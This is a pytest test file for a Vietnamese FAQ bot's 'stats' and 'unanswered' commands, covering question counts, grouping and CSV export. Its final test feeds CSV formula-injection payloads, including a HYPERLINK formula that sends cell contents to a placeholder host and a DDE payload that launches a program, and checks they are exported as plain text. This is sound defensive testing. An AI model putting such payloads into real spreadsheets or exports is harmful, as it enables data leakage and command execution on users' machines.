"""`python -m bot stats` and `python -m bot unanswered` on the database in DATA_DIR."""

from __future__ import annotations

import asyncio
import csv
import io
import subprocess
import sys
import time
from pathlib import Path

from bot.engine.matcher import Decision
from bot.storage import DATABASE_NAME, DAY, Storage
from tests.support.settings_env import clean_env

ANSWER = Decision("answer", "cso_role", 0.82)
HANDOFF = Decision("handoff", None, 0.1, (), False, (("summary", 0.1),))


def _bot(cwd: Path, data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        cwd=cwd,  # no stray .env
        env=clean_env(DATA_DIR=str(data_dir)),
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
        check=False,
    )


def _fill(data_dir: Path) -> None:
    """A few questions asked over the last days, as the bot would have recorded them."""

    async def fill() -> None:
        storage = await Storage.open(data_dir, retention_days=90)
        now = time.time()
        try:
            await storage.record_question(1, "CSO là gì?", ANSWER, at=now - 60)
            for n, text in enumerate(("lương cso bao nhiêu", "luong cso bao nhieu")):
                await storage.record_question(n, text, HANDOFF, at=now - 120 - n)
            await storage.record_question(3, "Lương CSO bao nhiêu?", HANDOFF, at=now - 3 * DAY)
            await storage.record_question(4, "Tối nay MU đá với ai?", HANDOFF, at=now - 2 * DAY)
        finally:
            await storage.close()

    asyncio.run(fill())


def test_stats_on_a_missing_data_dir_creates_it_and_shows_zeros(tmp_path: Path) -> None:
    data_dir = tmp_path / "data" / "nested"
    result = _bot(tmp_path, data_dir, "stats")
    assert result.returncode == 0, result.stderr
    assert (data_dir / DATABASE_NAME).is_file()
    lines = result.stdout.splitlines()
    assert lines[0] == "📊 Thống kê"
    assert "Hôm nay: 0 câu hỏi" in lines
    assert "Traceback" not in result.stderr


def test_stats_counts_the_recorded_questions(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    _fill(data_dir)
    result = _bot(tmp_path, data_dir, "stats")
    assert result.returncode == 0, result.stderr
    assert "7 ngày qua: 5 câu hỏi" in result.stdout.splitlines()
    assert "Trả lời ngay 20 % · Gợi ý 0 % · Chuyển nhân viên 80 %" in result.stdout


def test_unanswered_prints_the_groups_and_writes_the_csv_file(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    _fill(data_dir)
    result = _bot(tmp_path, data_dir, "unanswered", "--csv", "out.csv")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "❓ Câu hỏi cần bổ sung câu trả lời (30 ngày qua): 4 câu, 2 nhóm"
    assert lines[1] == "1. «Lương CSO bao nhiêu?» — 3 lần"
    assert lines[2].strip().startswith("Gần nhất với: summary (")  # with the intent's title
    assert lines[3] == "2. «Tối nay MU đá với ai?» — 1 lần"
    assert lines[-1] == "Đã ghi 4 câu hỏi vào tệp out.csv"

    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [(r["nhom"], r["cau_hoi"]) for r in rows] == [
        ("1", "Lương CSO bao nhiêu?"),
        ("1", "luong cso bao nhieu"),
        ("1", "lương cso bao nhiêu"),
        ("2", "Tối nay MU đá với ai?"),
    ]


def test_unanswered_days_looks_back_that_far(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    _fill(data_dir)
    result = _bot(tmp_path, data_dir, "unanswered", "--days", "1")
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[1] == "1. «luong cso bao nhieu» — 2 lần"
    assert "MU" not in result.stdout


def test_unanswered_csv_dash_writes_only_csv_to_stdout(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    _fill(data_dir)
    result = subprocess.run(
        [sys.executable, "-m", "bot", "unanswered", "--csv", "-"],
        cwd=tmp_path,
        env=clean_env(DATA_DIR=str(data_dir)),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr.decode()
    assert result.stdout.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode("utf-8-sig"), newline="")))
    assert len(rows) == 4
    assert rows[0]["cau_hoi"] == "Lương CSO bao nhiêu?"


def test_unanswered_on_an_empty_database_is_good_news(tmp_path: Path) -> None:
    result = _bot(tmp_path, tmp_path / "data", "unanswered")
    assert result.returncode == 0, result.stderr
    assert result.stdout == "Chưa có câu hỏi nào cần bổ sung 🎉\n"


def test_a_damaged_database_gives_one_line_and_exit_code_2(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    (data_dir / DATABASE_NAME).write_bytes(b"not a database" * 200)
    for command in ("stats", "unanswered"):
        result = _bot(tmp_path, data_dir, command)
        assert result.returncode == 2
        assert result.stdout == ""
        assert "Traceback" not in result.stderr
        assert result.stderr.startswith("Không mở được cơ sở dữ liệu:")
        assert len(result.stderr.strip().splitlines()) == 1


# Questions a spreadsheet would run as formulas, as a user could type them.
FORMULA_QUESTIONS = (
    '=HYPERLINK("http://example.invalid/?q="&A1;"Bấm vào đây")',
    "+84 283 817 2459 gọi ai",
    "-2+3 là mấy",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _fill_formulas(data_dir: Path) -> None:
    async def fill() -> None:
        storage = await Storage.open(data_dir, retention_days=90)
        now = time.time()
        try:
            for n, text in enumerate(FORMULA_QUESTIONS):
                await storage.record_question(n, text, HANDOFF, at=now - 60 - n)
        finally:
            await storage.close()

    asyncio.run(fill())


def _questions_in(csv_text: str) -> list[str]:
    return [row["cau_hoi"] for row in csv.DictReader(io.StringIO(csv_text, newline=""))]


def test_unanswered_csv_writes_formula_like_questions_as_text(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    _fill_formulas(data_dir)
    expected = sorted("'" + text for text in FORMULA_QUESTIONS)  # readable, never run

    to_file = _bot(tmp_path, data_dir, "unanswered", "--csv", "out.csv")
    assert to_file.returncode == 0, to_file.stderr
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        assert sorted(_questions_in(file.read())) == expected

    to_stdout = subprocess.run(
        [sys.executable, "-m", "bot", "unanswered", "--csv", "-"],
        cwd=tmp_path,
        env=clean_env(DATA_DIR=str(data_dir)),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert to_stdout.returncode == 0, to_stdout.stderr.decode()
    assert sorted(_questions_in(to_stdout.stdout.decode("utf-8-sig"))) == expected
